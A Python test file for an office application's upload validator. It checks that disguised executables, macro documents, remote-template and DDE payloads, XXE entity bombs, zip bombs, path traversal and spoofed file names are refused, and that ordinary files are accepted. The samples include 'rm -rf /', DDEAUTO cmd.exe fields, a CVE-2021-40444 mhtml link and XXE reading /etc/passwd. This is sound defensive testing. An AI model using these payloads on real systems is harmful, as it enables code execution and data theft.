"""Every bad upload that was tried, and what becomes of it (C01; docs/threats.md sums them up)."""

import io
import stat
import zipfile

import pytest

from officeapp.attachments import Unacceptable, accept, clean_name

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
TYPES = "<Types/>"
LINK = ('<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="External"/>'
        "</Relationships>")
BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>'
TYPED = '<Types><Override PartName="/word/a.bin" ContentType="application/{}"/></Types>'
FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"


def packed(members, **options):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, **options) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


def docx(*more, body="<w:p><w:t>通知</w:t></w:p>", types=TYPES):
    return packed([("[Content_Types].xml", types), ("word/document.xml", body), *more])


def xlsx(*more):
    return packed([("[Content_Types].xml", TYPES), ("xl/workbook.xml", "<workbook/>"), *more])


def linked(name, target):
    made = zipfile.ZipInfo(name)
    made.create_system, made.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    return made, target


def nested(depth):
    content = b"\0" * 1_000_000
    for _ in range(depth):
        content = packed([("inner.zip", content)])
    return content


def encrypted(content):
    content = bytearray(content)
    content[content.index(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


REFUSED = {
    "a program named pdf": (b"MZ\x90\0" + b"\0" * 60, "通知.pdf", "内容却不是"),
    "a script named pdf": (b"#!/bin/sh\nrm -rf /\n", "通知.pdf", "内容却不是"),
    "a page named png": (b"<!DOCTYPE html><script>alert(1)</script>", "照片.png", "内容却不是"),
    "a page": (b"<html>", "通知.html", "只收"),
    "a drawing with a script": (b"<svg onload='alert(1)'/>", "图.svg", "只收"),
    "a drawing named png": (b"<svg onload='alert(1)'/>", "图.png", "内容却不是"),
    "an animation that is a script": (b"GIF89a/*\x01\0\0\0*/=alert(1)", "图.gif", "只收"),
    "an animation named jpg": (b"GIF89a/*\x01\0\0\0*/=alert(1)", "图.jpg", "内容却不是"),
    "a page before a pdf": (b"<html><script>alert(1)</script>" + PDF, "通知.pdf", "内容却不是"),
    "a pdf named docx": (PDF, "通知.docx", "内容却是 pdf"),
    "an old document, perhaps with macros": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "通知.docx", "旧版"),
    "an old document by its own name": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "通知.doc", "只收"),
    "a docm named docx": (docx(types=TYPED.format("vnd.ms-word.document.macroEnabled.main+xml")), "通知.docx", "宏"),
    "a docm": (docx(), "通知.docm", "只收"),
    "a macro project": (docx(("word/vbaProject.bin", b"x")), "通知.docx", "宏"),
    "a macro project in another folder": (docx(("word/media/VBAPROJECT.bin", b"x")), "通知.docx", "宏"),
    "a macro project under another name": (docx(types=TYPED.format("vnd.ms-office.vbaProject")), "通知.docx", "宏"),
    "such a project in wide letters": (docx(types=TYPED.format("vnd.ms-office.vbaProject").encode("utf-16")),
                                       "通知.docx", "宏"),
    "such a project spelt by numbers": (docx(types=TYPED.format("vnd.ms-office.vba&#80;roject")), "通知.docx", "宏"),
    "a sheet of Excel 4 macros": (xlsx(("xl/macrosheets/sheet1.xml", "<x/>")), "台账.xlsx", "宏"),
    "a control that runs": (docx(("word/activeX/activeX1.bin", b"x")), "通知.docx", "宏"),
    "a template from elsewhere": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "http://evil.test/a.dotm"))),
        "通知.docx", "自动连接"),
    "such a template between other quotes": (
        docx(("word/_rels/settings.xml.rels",
              LINK.replace('"', "'").format("attachedTemplate", "http://evil.test/a.dotm"))), "通知.docx", "自动连接"),
    "such a template spelt by numbers": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTempl&#97;te", "&#104;ttp://evil.test/a.dotm"))),
        "通知.docx", "自动连接"),
    "such a template behind four million blanks": (
        docx(("word/_rels/settings.xml.rels", "<x><!--" + " " * 4_200_000 + "-->"
              + LINK.format("attachedTemplate", "http://evil.test/a.dotm") + "</x>")), "通知.docx", "自动连接"),
    "a part that no parser can read": (docx(("word/header1.xml", "<x>")), "通知.docx", "内部结构不正常"),
    "an object from a share": (
        docx(("word/_rels/document.xml.rels", LINK.format("oleObject", "\\\\evil\\share\\a.doc"))),
        "通知.docx", "自动连接"),
    "a frame from elsewhere": (
        docx(("word/_rels/webSettings.xml.rels", LINK.format("frame", "file://evil/a.htm"))), "通知.docx", "自动连接"),
    "an object by a way round the browser's rules": (  # CVE-2021-40444
        docx(("word/_rels/document.xml.rels", LINK.format("oleObject", "mhtml:http://evil.test/a.html!x-usc:b"))),
        "通知.docx", "自动连接"),
    "a template on the network, the scheme left out": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "//evil/share/a.dotm"))),
        "通知.docx", "自动连接"),
    "a template on the network, spelt by percents": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///%5C%5Cevil/a.dotm"))),
        "通知.docx", "自动连接"),
    "a picture from a share, which learns who opens it": (
        docx(("word/_rels/document.xml.rels", LINK.format("image", "file://evil/a.png"))), "通知.docx", "自动连接"),
    "a picture from the web, which learns when": (
        docx(("word/_rels/header1.xml.rels", LINK.format("image", "http://evil.test/a.png"))), "通知.docx", "自动连接"),
    "addresses from a share": (
        docx(("word/_rels/settings.xml.rels", LINK.format("mailMergeSource", "\\\\evil\\a.mdb"))),
        "通知.docx", "自动连接"),
    "a field that starts a program": (docx(body=FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"')),
                                      "通知.docx", "自动连接"),
    "such a field in pieces": (docx(body=f"<w:body>{FIELD.format('DD')}{FIELD.format('EAUTO cmd')}</w:body>"),
                              "通知.docx", "自动连接"),
    "such a field spelt by numbers": (docx(body=FIELD.format("D&#68;EAUTO cmd")), "通知.docx", "自动连接"),
    "such a field with a remark in it": (docx(body=FIELD.format("DD<!-- x -->EAUTO cmd")), "通知.docx", "自动连接"),
    "such a field under another prefix": (docx(body=FIELD.replace("w:", "x:").format("DDE cmd")), "通知.docx",
                                          "自动连接"),
    "such a field said shortly": (docx(body='<w:fldSimple w:instr=" DDE cmd "/>'), "通知.docx", "自动连接"),
    "a sheet that starts a program": (xlsx(("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd"/>')),
                                      "台账.xlsx", "自动连接"),
    "an entity bomb": (docx(body=BOMB), "通知.docx", "内部结构不正常"),
    "an entity bomb in wide letters": (docx(body=BOMB.encode("utf-16")), "通知.docx", "内部结构不正常"),
    "an entity that reads a file": (
        docx(("word/header1.xml", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>')),
        "通知.docx", "内部结构不正常"),
    "two texts under one name": (docx(("WORD/document.xml", "<w:t>机密★</w:t>")), "通知.docx", "内部结构不正常"),
    "a part outside the folder": (docx(("../../etc/cron.d/x", "x")), "通知.docx", "内部结构不正常"),
    "a part from the root": (docx(("/etc/passwd", "x")), "通知.docx", "内部结构不正常"),
    "a part on another drive": (docx(("C:\\windows\\x", "x")), "通知.docx", "内部结构不正常"),
    "a link in the archive": (docx(linked("word/media/a", "/etc/passwd")), "通知.docx", "内部结构不正常"),
    "a bomb of zeros": (docx(("word/media/a.bin", b"\0" * (40 * 1024 * 1024))), "通知.docx", "大得不正常"),
    "a bomb of six thousand parts": (b"PK\x03\x04" + b"PK\x01\x02" * 6_000, "通知.docx", "大得不正常"),
    "a bomb in a bomb": (nested(4), "通知.docx", "内容却不是"),
    "a plain archive": (packed([("a.txt", "x")]), "通知.docx", "内容却不是"),
    "an archive by its own name": (packed([("a.txt", "x")]), "通知.zip", "只收"),
    "an archive with a password": (encrypted(docx()), "通知.docx", "密码"),
    "half an archive": (docx()[: len(docx()) // 2], "通知.docx", "已损坏"),
    "a document and a workbook at once": (docx(("xl/workbook.xml", "<x/>")), "通知.docx", "内容却不是"),
    "nothing": (b"", "通知.pdf", "空的"),
    "half a pdf": (PDF[:30], "通知.pdf", "不完整"),
    "half a photograph": (b"\xff\xd8\xff\xe0" + b"\0" * 200_000, "照片.jpg", "不完整"),
    "half a drawing": (b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 90, "图.png", "不完整"),
    "no ending": (PDF, "通知", "只收"),
    "a second ending": (PDF, "通知.pdf.exe", "只收"),
    "an ending turned round": (PDF, "通知\u202efdp.exe", "只收"),
    "an ending behind a zero": (PDF, "通知.exe\0.jpg", "内容却是 pdf"),
    "a mark in the name": (PDF, "机密★一年 名单.pdf", "密级标志"),
    "a mark in the name, hidden": (PDF, "机\u200b密★ 名单.pdf", "密级标志"),
    "a mark in the text": (docx(body="<w:p><w:t>机密★1年</w:t></w:p>"), "通知.docx", "密级标志"),
    "a mark in the text in wide letters": (docx(body="<w:p><w:t>机密★1年</w:t></w:p>".encode("utf-16")), "通知.docx",
                                           "密级标志"),
    "a mark in a page's head": (docx(("word/header1.xml", "<w:p><w:t>秘密</w:t></w:p>")), "通知.docx", "密级标志"),
}
HARMLESS = {
    "a link to click": (docx(("word/_rels/document.xml.rels", LINK.format("hyperlink", "http://www.gov.cn/"))),
                        "通知.docx"),
    "a template of one's own": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///C:\\模板\\公文.dotm"))),
        "通知.docx"),
    "the same on another system": (
        docx(("word/_rels/settings.xml.rels", LINK.format("attachedTemplate", "file:///home/a/公文.dotm"))),
        "通知.docx"),
    "a picture of one's own": (
        docx(("word/_rels/document.xml.rels", LINK.format("image", "media/image1.png")
              .replace('TargetMode="External"', ""))), "通知.docx"),
    "a picture beside it on the own disk": (
        docx(("word/_rels/document.xml.rels", LINK.format("image", "file:///D:\\图\\a.png"))), "通知.docx"),
    "a page number": (docx(body=FIELD.format(" PAGE ")), "通知.docx"),
    "wide letters": (docx(body="<w:p><w:t>通知</w:t></w:p>".encode("utf-16")), "通知.docx"),
    "a page behind a pdf: it is only ever sent as a file": (PDF + b"<script>alert(1)</script>", "通知.pdf"),
}
NAMES = {
    "../../etc/passwd.pdf": "passwd.pdf", "..\\..\\boot.pdf": "boot.pdf", "CON.pdf": "_CON.pdf",
    "nul": "_nul", "com1.docx": "_com1.docx", "console.pdf": "console.pdf", "通知.pdf...": "通知.pdf", " .pdf": "pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie_ x=1.pdf", "通知\u202efdp.exe": "通知fdp.exe",
    "通知\ud800.pdf": "通知.pdf",
    "a\u2028b.pdf": "a b.pdf", "=cmd|x.pdf": "=cmd_x.pdf",
}


@pytest.mark.parametrize(("content", "name", "says"), REFUSED.values(), ids=REFUSED.keys())
def test_it_is_refused_with_a_sentence_that_says_what_to_do(content, name, says):
    with pytest.raises(Unacceptable) as refused:
        accept(io.BytesIO(content), name)
    assert says in refused.value.sentence and "请" in refused.value.sentence and refused.value.sentence.endswith("。")
    assert (refused.value.rule == "C01") == ("密级" in says)


@pytest.mark.parametrize(("content", "name"), HARMLESS.values(), ids=HARMLESS.keys())
def test_what_an_office_writes_every_day_is_taken(content, name):
    accept(io.BytesIO(content), name).file.close()


@pytest.mark.parametrize(("given", "kept"), NAMES.items(), ids=ascii)
def test_a_name_is_only_a_name(given, kept):
    assert clean_name(given) == kept
